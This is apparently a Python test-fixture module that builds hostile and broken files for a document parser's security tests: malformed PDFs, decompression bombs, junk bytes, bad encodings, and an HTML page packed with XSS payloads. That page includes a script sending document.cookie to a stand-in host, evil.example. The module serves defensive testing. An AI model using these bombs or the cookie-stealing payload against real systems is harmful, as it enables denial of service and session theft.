"""Hostile and broken files for the security tests.

Small ones are written into this folder (``python -m tests.samples.hostile.make_hostile``) and kept in
the repository; big ones (bombs, the million-entry xref, the 2 GB upload) are built at test time by the
functions below, so the repository stays small.
"""

from __future__ import annotations

import io
import random
import zipfile
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent


def pdf(objects: list[bytes], root: int = 1, extra_trailer: bytes = b"") -> bytes:
    """A PDF with a correct xref table around the given object bodies (numbered from 1)."""
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n"
              % (len(objects) + 1, root, extra_trailer, xref))
    return out.getvalue()


def text_pdf(text: str = "Harbour Report", body: str = "The tide was high and the pilots were ready.") -> bytes:
    content = f"BT /F1 18 Tf 72 720 Td ({text}) Tj ET BT /F1 11 Tf 72 690 Td ({body}) Tj ET".encode()
    return pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ])


def truncated_pdf() -> bytes:
    data = text_pdf()
    return data[: len(data) // 2]


def corrupt_pdf() -> bytes:
    rng = random.Random(7)
    data = bytearray(text_pdf())
    for _ in range(200):
        data[rng.randrange(20, len(data) - 10)] = rng.randrange(256)
    return bytes(data)


def encrypted_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(text_pdf())))
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def nested_pdf(depth: int = 50_000) -> bytes:
    """An object of arrays nested ``depth`` deep, referenced from the page."""
    nested = b"[" * depth + b"]" * depth
    content = b"BT /F1 12 Tf 72 720 Td (Deep) Tj ET"
    return pdf([
        b"<< /Type /Catalog /Pages 2 0 R /Deep 6 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Deep 6 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        nested,
    ])


def self_referencing_pdf() -> bytes:
    """Page tree whose kids point back at their parent: a structure without end."""
    return pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Parent 2 0 R /Count 2 >>",
    ])


def million_xref_pdf(entries: int = 1_000_000) -> bytes:
    """A valid small PDF whose xref table claims a million objects (20 MB)."""
    base = text_pdf()
    out = io.BytesIO()
    out.write(base[: base.index(b"xref\n")])
    xref = out.tell()
    out.write(b"xref\n0 %d\n" % entries)
    out.write(b"0000000000 65535 f \n" * entries)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (entries, xref))
    return out.getvalue()


def _zeros_deflated(size: int) -> bytes:
    compressor = zlib.compressobj(9)
    chunk = b"\0" * (1 << 20)
    parts = [compressor.compress(chunk) for _ in range(size // len(chunk))]
    parts.append(compressor.flush())
    return b"".join(parts)


def bomb_pdf(expanded: int = 1 << 30) -> bytes:
    """A page whose content stream inflates from about 1 MB to ``expanded`` bytes."""
    stream = _zeros_deflated(expanded)
    return pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
    ])


def bomb_zip(expanded: int = 1 << 30) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with archive.open("article.txt", "w", force_zip64=True) as member:
            chunk = b"\0" * (1 << 20)
            for _ in range(expanded // len(chunk)):
                member.write(chunk)
    return out.getvalue()


def junk(size: int = 64 * 1024, seed: int = 11) -> bytes:
    return random.Random(seed).randbytes(size)


HOSTILE_HTML = b"""<!doctype html><html><head><title>Plain <script>alert('title')</script> Title</title>
<meta name="author" content="Eve &lt;img src=x onerror=alert(1)&gt;">
<script>alert('head')</script><style>body{background:url(javascript:alert(1))}</style></head>
<body onload="alert('body')"><h1 onclick="alert(2)">Harbour Pilots Return</h1>
<p>The pilots came back <a href="javascript:alert(3)">home</a> after the storm.
<img src="x" onerror="alert(4)"> <iframe src="javascript:alert(5)"></iframe></p>
<p>Ships waited <svg onload="alert(6)"><script>alert(7)</script></svg> in the roads for two days.</p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<p>Trade resumed on Monday, the harbour master said, and the queue cleared by noon.</p>
</body></html>
"""

MIXED_ENCODING = ("Caf\u00e9 Notes\n\nBy Jos\u00e9 Mart\u00ednez\n\n".encode("utf-8")
                  + "Le caf\u00e9 \u00e9tait plein, na\u00efve cr\u00e8me br\u00fbl\u00e9e.\n".encode("latin-1")
                  + b"Broken bytes \xff\xfe\xc3\x28 and \xed\xa0\x80 surrogates.\n")


def small_files() -> dict[str, bytes]:
    """The hostile files kept in the repository, by file name."""
    return {
        "truncated.pdf": truncated_pdf(),
        "corrupt.pdf": corrupt_pdf(),
        "encrypted.pdf": encrypted_pdf(),
        "nested.pdf": nested_pdf(),
        "self_referencing.pdf": self_referencing_pdf(),
        "junk.txt": junk(seed=1),
        "junk.html": junk(seed=2),
        "junk.pdf": b"%PDF-1.7\n" + junk(seed=3),
        "invalid_utf8.txt": b"Invalid Bytes\n\nBy Ann Bee\n\n\xc3\x28\xa0\xa1 text \xe2\x28\xa1 more text \xf0\x28\x8c\xbc.\n",
        "mixed_encoding.txt": MIXED_ENCODING,
        "scripts.html": HOSTILE_HTML,
    }


def write_small_files() -> None:
    for name, data in small_files().items():
        (HERE / name).write_bytes(data)


if __name__ == "__main__":
    write_small_files()
